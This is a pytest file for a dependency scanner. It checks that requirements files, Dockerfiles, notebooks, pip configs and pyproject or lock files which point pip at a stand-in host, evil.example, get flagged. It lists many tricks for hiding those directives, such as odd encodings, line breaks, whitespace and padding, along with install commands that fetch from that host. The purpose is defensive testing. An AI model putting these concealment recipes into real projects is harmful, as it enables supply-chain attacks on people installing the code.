"""Files of requirements that are written so that only pip sees what they ask for; pip itself is the judge."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pip._internal.index.collector import LinkCollector
from pip._internal.index.package_finder import PackageFinder
from pip._internal.models.search_scope import SearchScope
from pip._internal.models.selection_prefs import SelectionPreferences
from pip._internal.network.session import PipSession
from pip._internal.req.req_file import parse_requirements
from tests.samples.vetting import report_on

from weighmaster import shipped
from weighmaster.engine.scan import scan_bytes
from weighmaster.model.package import Dependency, Index
from weighmaster.model.report import Gap, GapReason, Item
from weighmaster.reading.budget import Limits

_EVIL = "https://evil.example/s"
_ASKS = f"--extra-index-url {_EVIL}\n"
_PAD = "# padding\n"
HIDDEN: dict[str, bytes] = {
    "utf-7": b"# coding: utf-7\nrequests==2.0\n+AC0ALQ-extra-index-url https://evil.example/s\n",
    "escapes": b"# x\n# -*- coding: unicode_escape -*-\nrequests==2.0\n\\x2d\\x2dextra-index-url https://evil.example/s\n",
    "joined": f"--extra-\\\nindex-url {_EVIL}\nrequests==2.0\n".encode(),
    "quoted": f'requests==2.0\n-"-extra-index-url" {_EVIL}\n'.encode(),
    "long comment": f"requests==2.0 # {'x' * 600}\n{_ASKS}".encode(),
    "long line": f"requests==2.0 {' '.join(f'--hash=sha256:{n:064x}' for n in range(12))}\n{_ASKS}".encode(),
    "settings": f'requests==2.0 --config-settings="a=b c"\n{_ASKS}'.encode(),
    "tab": f"requests==2.0\n\t--extra-index-url\t{_EVIL}\n".encode(),
    "wide space": f"requests==2.0\n\u3000{_ASKS}".encode(),
    "separator": f"requests==2.0 # a\u2028{_ASKS}".encode(),
    "form feed": f"requests==2.0\x0c{_ASKS}".encode(),
    "short": f"requests==2.0\n--i {_EVIL}\n".encode(),
    "alias": f"requests==2.0\n--py {_EVIL}\n".encode(),
    "variable": f"requests==2.0\n${{A_LINE}}\n{_ASKS}".encode(),
    "folders": f".\nsub/dir\n..[dev]\n{_ASKS}".encode(),
    "capitals": f"HTTPS://evil.example/f.tar.gz\nGIT+https://evil.example/f\n{_ASKS}".encode(),
    "padded": f"requests==2.0\n{_PAD * 90_000}{_ASKS}".encode(),
}


def _of_pip(data: bytes, folder: Path) -> tuple[set[str], int]:
    path = folder / "requirements.txt"
    path.write_bytes(data)
    with PipSession() as session:
        scope = SearchScope.create([], ["https://pypi.org/simple"], no_index=False)
        collector = LinkCollector(session=session, search_scope=scope)
        finder = PackageFinder.create(
            link_collector=collector, selection_prefs=SelectionPreferences(allow_yanked=False)
        )
        wanted = [*parse_requirements(str(path), session=session, finder=finder)]
    return {*finder.index_urls} - {"https://pypi.org/simple"}, len(wanted)


def _items(data: bytes, name: str) -> list[Item]:
    return list(scan_bytes(data, name, shipped.registry(), Limits()))


@pytest.mark.parametrize("id", HIDDEN)
def test_what_pip_sees_is_seen(id: str, tmp_path: Path) -> None:
    items = _items(HIDDEN[id], "requirements.txt")
    indexes, wanted = _of_pip(HIDDEN[id], tmp_path)
    if any(isinstance(item, Gap) and item.reason is GapReason.OVER_BUDGET for item in items):
        return
    assert {item.target for item in items if isinstance(item, Index)} == indexes == {_EVIL}
    found = [item for item in items if isinstance(item, Dependency)]
    assert len(found) == wanted - HIDDEN[id].count(b"${A_LINE}")


@pytest.mark.parametrize(
    ("name", "size"),
    [
        ("requirements.txt", 5 << 20),
        ("setup.py", 5 << 20),
        ("start.pth", 5 << 20),
        ("Dockerfile.gpu", 2 << 20),
        ("install.sh", 2 << 20),
        ("pyproject.toml", 17 << 20),
        ("sub/pylock.dev.toml", 17 << 20),
    ],
)
def test_what_is_padded_beyond_what_is_looked_through_is_said_to_be_unread(name: str, size: int) -> None:
    items = _items(_PAD.encode() * (size // len(_PAD)) + b"import os\n", name)
    assert any(isinstance(item, Gap) and item.reason is GapReason.OVER_BUDGET for item in items)


def test_a_long_text_that_no_tool_reads_is_no_gap() -> None:
    assert not any(isinstance(item, Gap) for item in _items(_PAD.encode() * 550_000, "notes.txt"))


def test_an_encoding_that_takes_too_long_is_said_to_be_unread() -> None:
    items = _items(b"# coding: punycode\nrequests==2.0\n", "requirements.txt")
    assert any(isinstance(item, Gap) for item in items)


@pytest.mark.parametrize("opening", ["{}", "[]", "{'a': 1}", '["a", {"b": null}]', "[exec]"])
def test_source_that_begins_as_data_does_is_source(opening: str) -> None:
    source = f"{opening}\n{_PAD * 2000}import os\nos.system('true')\n"
    items = _items(source.encode(), "pack/__init__.py")
    assert "source-acts-on-import" in {item.rule.id for item in items if hasattr(item, "rule")} or any(
        getattr(item, "name", "") == "system" for item in items
    )


@pytest.mark.parametrize("text", ['{"a": "f(x) import class"}\n', '[{"a": 1e5, "b": [true, null]}]\n' * 50])
def test_json_is_no_source(text: str) -> None:
    artifact = next(item for item in _items(text.encode(), "a.json") if hasattr(item, "formats"))
    assert "python" not in artifact.formats


_INSTALL = f"pip install -i {_EVIL} foo"
_ENV = f"PIP_INDEX_URL={_EVIL}"


def _cell(source: str) -> str:
    return json.dumps({"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "source": source}]})


RECIPES: dict[str, tuple[str, str]] = {
    "two variables": ("Dockerfile", f"FROM x\nENV A=b {_ENV}\n"),
    "quoted variable": ("Dockerfile", f'FROM x\nENV A="b c" PIP_INDEX_URL="{_EVIL}"\n'),
    "escape": ("Dockerfile", f"# escape=`\nFROM x\nRUN pip install `\n  -i {_EVIL} `\n foo\n"),
    "document": ("Dockerfile", f"FROM x\nRUN <<EOF\n{_INSTALL}\nEOF\n"),
    "blank line": ("Dockerfile", f"FROM x\nRUN \\\n# comment\n\n  {_INSTALL}\n"),
    "for one command": ("Dockerfile", f"FROM x\nRUN {_ENV} pip install foo\n"),
    "configured": ("Dockerfile", f"FROM x\nRUN pip config set global.index-url {_EVIL}\n"),
    "words": ("Dockerfile", f'FROM x\nRUN ["pip","install","-i","{_EVIL}","foo"]\n'),
    "broken word": ("Dockerfile", f"FROM x\nRUN pip i\\\nnstall -i {_EVIL} foo\n"),
    "option before": ("install.sh", f"#!/bin/sh\npip --proxy http://p -i {_EVIL} install foo\n"),
    "interpreter": ("a.ipynb", _cell(f"!{{sys.executable}} -m {_INSTALL}")),
    "answer": ("a.ipynb", _cell(f"x = !{_INSTALL}")),
    "called": ("a.ipynb", _cell(f"get_ipython().system('{_INSTALL}')")),
    "no mark": ("a.ipynb", _cell(_INSTALL)),
    "set": ("a.ipynb", _cell(f"%env {_ENV}\n%pip install foo")),
    "assigned": ("a.ipynb", _cell(f"!{_ENV} pip install foo")),
    "after another": ("a.ipynb", _cell(f"!cd x && {_INSTALL}")),
    "capitals": ("pip.conf", f"[install]\nINDEX-URL: {_EVIL}\n"),
    "dashes": ("pip.conf", f"[install]\n--index_url = {_EVIL}\n"),
}


@pytest.mark.parametrize("id", RECIPES)
def test_an_index_is_found_however_a_recipe_names_it(id: str) -> None:
    name, text = RECIPES[id]
    assert [item.target for item in _items(text.encode(), name) if isinstance(item, Index)] == [_EVIL]


_WHEEL = f"foo @ {_EVIL}/x.whl"
PLACES: dict[str, tuple[str, str]] = {
    "merge": ("environment.yml", f"x: &d {{dependencies: [{{pip: ['{_WHEEL}']}}]}}\nchannels: [c]\n<<: *d\n"),
    "anchor": ("environment.yml", f"x: &d\n - pip: ['{_WHEEL}']\nchannels: [c]\ndependencies: *d\n"),
    "hook": ("pyproject.toml", f'[project]\nname="a"\n[tool.hatch.build.hooks.x]\ndependencies=["{_WHEEL}"]\n'),
    "hook of a target": (
        "pyproject.toml",
        f'[project]\nname="a"\n[tool.hatch.build.targets.wheel.hooks.x]\ndependencies=["{_WHEEL}"]\n',
    ),
    "build of another": (
        "pyproject.toml",
        f'[project]\nname="a"\n[tool.uv.extra-build-dependencies]\nz=["{_WHEEL}"]\n',
    ),
    "held while built": (
        "pyproject.toml",
        f'[project]\nname="a"\n[tool.uv]\nbuild-constraint-dependencies=["{_WHEEL}"]\n',
    ),
    "pixi": ("pyproject.toml", f'[project]\nname="a"\n[tool.pixi.pypi-dependencies]\nfoo={{url="{_EVIL}/x.whl"}}\n'),
}


@pytest.mark.parametrize("id", PLACES)
def test_an_address_is_found_wherever_a_tool_takes_it_from(id: str) -> None:
    name, text = PLACES[id]
    found = [item for item in _items(text.encode(), name) if isinstance(item, Dependency) and item.source == "url"]
    assert [(one.name, one.target) for one in found] == [("foo", f"{_EVIL}/x.whl")]


@pytest.mark.parametrize(
    ("file", "told"),
    [
        ("evil-2.0-py3-none-any.whl", "locked-file-elsewhere"),
        ("requests_evil-2.0.tar.gz", "locked-file-elsewhere"),
        ("requests-2.0-py3-none-any.whl", ""),
        ("Requests-2.0.tar.gz", ""),
    ],
)
def test_a_lock_that_takes_the_file_of_another_project_is_told(file: str, told: str) -> None:
    lock = (
        'version = 1\n[[package]]\nname = "requests"\nversion = "2.0"\n'
        'source = { registry = "https://pypi.org/simple" }\n'
        f'wheels = [{{ url = "https://files.pythonhosted.org/packages/aa/{file}", hash = "sha256:{"a" * 64}" }}]\n'
    )
    report = report_on(lock.encode(), "uv.lock")
    assert ("locked-file-elsewhere" in {finding.rule.id for finding in report.findings}) is bool(told)


@pytest.mark.parametrize("name", ["Dockerfile", "install.sh"])
def test_requirements_at_an_address_are_not_seen(name: str) -> None:
    begin = "FROM x\nRUN" if name == "Dockerfile" else "#!/bin/sh\n"
    report = report_on(f"{begin} pip install -r https://evil.example/r.txt\n".encode(), name)
    assert "include-not-seen" in {finding.rule.id for finding in report.findings}
